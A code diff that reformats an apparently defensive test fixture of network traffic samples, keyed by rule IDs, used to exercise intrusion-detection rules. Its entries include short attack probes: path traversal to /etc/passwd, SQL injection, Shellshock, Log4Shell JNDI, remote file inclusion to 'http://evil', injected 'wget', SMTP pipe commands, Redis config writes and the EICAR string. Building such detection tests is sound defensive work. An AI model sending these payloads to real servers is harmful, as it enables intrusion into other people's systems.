@@ -47,41 +47,74 @@ SMB = b"\0\0\0\x40\xffSMB"
 HELLO = b"\x16\x03\x01\x00\x40\x01\x00\x00\x3c\x03\x01" + bytes(58)
 
 WEB: dict[int, Talk] = {
-    100: get(b"/a/..//etc/passwd"), 101: get(b"/%2E%2e%2F"), 102: get(b"/?q=1%20UnIoN%20all%20SELECT%201"),
-    103: get(b"/?q=%27%20OR%201=1"), 104: get(b"/?q=%3CScript%3E"), 105: get(b"/", b"X: () { :;}; id"),
-    106: get(b"/", b"X-Api: ${JNDI:ldap://x}"), 107: get(b"/i.php?page=http://evil"), 108: get(b"/scripts/CMD.exe"),
-    109: post(b"a=1;wget http://x"), 110: get(b"/", method=b"TRACE"), 111: get(b"/x.jsp", method=b"PUT", body=b"x"),
-    112: get(b"/", b"User-Agent: sqlmap/1.5"), 113: get(b"/", b"User-Agent: Mozilla (nikto/2)"),
-    114: [(">", b"GET / HTTP/1.0\r\n\r\n"), ("<", OK)], 115: [(">", b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n"), ("<", OK)],
-    116: get(b"/?PHPSESSID=1", b"Cookie: PHPSESSID=1"), 117: get(b"/x/../wp-admin/"), 118: get(b"/.git/config"),
-    119: post(b"\xac\xed\x00\x05sr"), 120: post(b'<!entity x System "file:///x">'),
-    130: answer(b"500 Error"), 131: answer(b"403 Forbidden"), 132: answer(b"200 OK", body=b"MZ\x90"),
-    133: answer(b"200 OK", body=b"<TITLE>Index of /</TITLE>"), 134: answer(b"200 OK", b"Set-Cookie: session=1; Secure"),
-    135: answer(b"200 OK", body=b"<b>Warning</b>: x in <b>y</b> on line <b>3</b>"), 136: answer(b"200 OK", b"Server: Apache/1.3"),
-}  # fmt: skip
+    100: get(b"/a/..//etc/passwd"),
+    101: get(b"/%2E%2e%2F"),
+    102: get(b"/?q=1%20UnIoN%20all%20SELECT%201"),
+    103: get(b"/?q=%27%20OR%201=1"),
+    104: get(b"/?q=%3CScript%3E"),
+    105: get(b"/", b"X: () { :;}; id"),
+    106: get(b"/", b"X-Api: ${JNDI:ldap://x}"),
+    107: get(b"/i.php?page=http://evil"),
+    108: get(b"/scripts/CMD.exe"),
+    109: post(b"a=1;wget http://x"),
+    110: get(b"/", method=b"TRACE"),
+    111: get(b"/x.jsp", method=b"PUT", body=b"x"),
+    112: get(b"/", b"User-Agent: sqlmap/1.5"),
+    113: get(b"/", b"User-Agent: Mozilla (nikto/2)"),
+    114: [(">", b"GET / HTTP/1.0\r\n\r\n"), ("<", OK)],
+    115: [(">", b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n"), ("<", OK)],
+    116: get(b"/?PHPSESSID=1", b"Cookie: PHPSESSID=1"),
+    117: get(b"/x/../wp-admin/"),
+    118: get(b"/.git/config"),
+    119: post(b"\xac\xed\x00\x05sr"),
+    120: post(b'<!entity x System "file:///x">'),
+    130: answer(b"500 Error"),
+    131: answer(b"403 Forbidden"),
+    132: answer(b"200 OK", body=b"MZ\x90"),
+    133: answer(b"200 OK", body=b"<TITLE>Index of /</TITLE>"),
+    134: answer(b"200 OK", b"Set-Cookie: session=1; Secure"),
+    135: answer(b"200 OK", body=b"<b>Warning</b>: x in <b>y</b> on line <b>3</b>"),
+    136: answer(b"200 OK", b"Server: Apache/1.3"),
+}
 
 PORTS: dict[int, tuple[int, Talk]] = {
     201: (21, [(">", b"USER root\r\n"), ("<", b"331 x\r\n"), (">", b"PASS x\r\n"), ("<", b"230 ok\r\n")]),
-    202: (21, [(">", b"site  exec id\r\n")]), 203: (21, [(">", b"user " + b"a" * 120 + b"\r\n")]),
-    210: (25, [(">", b"vrfy root\r\n")]), 211: (25, [(">", b"RCPT TO: |id\r\n")]), 212: (25, [(">", b'filename="a.exe"\r\n')]),
-    220: (22, [("<", b"SSH-1.5-x\r\n")]), 221: (22, [(">", b"SSH-2.0-libssh_0.9\r\n")]),
-    230: (23, [(">", b"root\r\0")]), 231: (23, [("<", b"login incorrect\r\n")]),
-    240: (139, [(">", SMB + b"u" + bytes(30) + b"\\\0i\0p\0c\0$\0")]), 241: (445, [(">", SMB + b"r" + bytes(30))]),
-    250: (6667, [(">", b"JOIN #x\r\n")]), 251: (9999, [(">", b"\x90" * 20)]), 252: (4444, [("<", b"uid=0(root) gid=0")]),
-    253: (6379, [(">", b"*4\r\n$6\r\nCONFIG\r\n$3\r\nset\r\n$3\r\ndir\r\n$1\r\n/\r\n")]), 254: (443, [(">", HELLO)]),
+    202: (21, [(">", b"site  exec id\r\n")]),
+    203: (21, [(">", b"user " + b"a" * 120 + b"\r\n")]),
+    210: (25, [(">", b"vrfy root\r\n")]),
+    211: (25, [(">", b"RCPT TO: |id\r\n")]),
+    212: (25, [(">", b'filename="a.exe"\r\n')]),
+    220: (22, [("<", b"SSH-1.5-x\r\n")]),
+    221: (22, [(">", b"SSH-2.0-libssh_0.9\r\n")]),
+    230: (23, [(">", b"root\r\0")]),
+    231: (23, [("<", b"login incorrect\r\n")]),
+    240: (139, [(">", SMB + b"u" + bytes(30) + b"\\\0i\0p\0c\0$\0")]),
+    241: (445, [(">", SMB + b"r" + bytes(30))]),
+    250: (6667, [(">", b"JOIN #x\r\n")]),
+    251: (9999, [(">", b"\x90" * 20)]),
+    252: (4444, [("<", b"uid=0(root) gid=0")]),
+    253: (6379, [(">", b"*4\r\n$6\r\nCONFIG\r\n$3\r\nset\r\n$3\r\ndir\r\n$1\r\n/\r\n")]),
+    254: (443, [(">", HELLO)]),
     255: (110, [("<", b"X5O!P%@AP-EICAR-STANDARD-ANTIVIRUS-TEST-FILE!")]),
-}  # fmt: skip
+}
 
 ANY_QUERY = b"\0\1\1\0\0\1\0\0\0\0\0\0\1a\0\0\xff\0\1"
 PACKETS: dict[int, list[bytes]] = {
-    300: [alone("SF")], 301: [alone("")], 302: [alone("FPU")], 303: [alone("A", A4, A4)] * 3, 304: [alone("S", ttl=1)],
-    305: [alone("S", port=1000 + n) for n in range(25)], 310: [icmp(b"x" * 900)],
-    311: [icmp(b"ABCDEFGHIJKLMNOPQRSTUVWABCDEFGHI")], 320: [datagram(b"\0\1" + bytes(10) + b"\x07VERSION\x04bind\0", dport=53)],
-    321: [datagram(ANY_QUERY, dport=53)] * 3, 322: [datagram(b"\0\1/etc/passwd\0octet\0", dport=69)],
-    323: [datagram(b"0\x26\x02\x01\x00\x04\x06public", dport=161)], 324: [datagram(b"M-SEARCH * HTTP/1.1\r\n", dport=1900)] * 3,
+    300: [alone("SF")],
+    301: [alone("")],
+    302: [alone("FPU")],
+    303: [alone("A", A4, A4)] * 3,
+    304: [alone("S", ttl=1)],
+    305: [alone("S", port=1000 + n) for n in range(25)],
+    310: [icmp(b"x" * 900)],
+    311: [icmp(b"ABCDEFGHIJKLMNOPQRSTUVWABCDEFGHI")],
+    320: [datagram(b"\0\1" + bytes(10) + b"\x07VERSION\x04bind\0", dport=53)],
+    321: [datagram(ANY_QUERY, dport=53)] * 3,
+    322: [datagram(b"\0\1/etc/passwd\0octet\0", dport=69)],
+    323: [datagram(b"0\x26\x02\x01\x00\x04\x06public", dport=161)],
+    324: [datagram(b"M-SEARCH * HTTP/1.1\r\n", dport=1900)] * 3,
     325: [datagram(b"\x17\0\x03\x2a" + bytes(4), sport=123)],
-}  # fmt: skip
-
+}
 
 
 def frames(sid: int, cut: int = 1460) -> list[bytes]:
@@ -92,5 +125,3 @@ def frames(sid: int, cut: int = 1460) -> list[bytes]:
         port, talk = PORTS[sid]
         return connection(talk, cut, port=port)
     return PACKETS[sid]
-
-
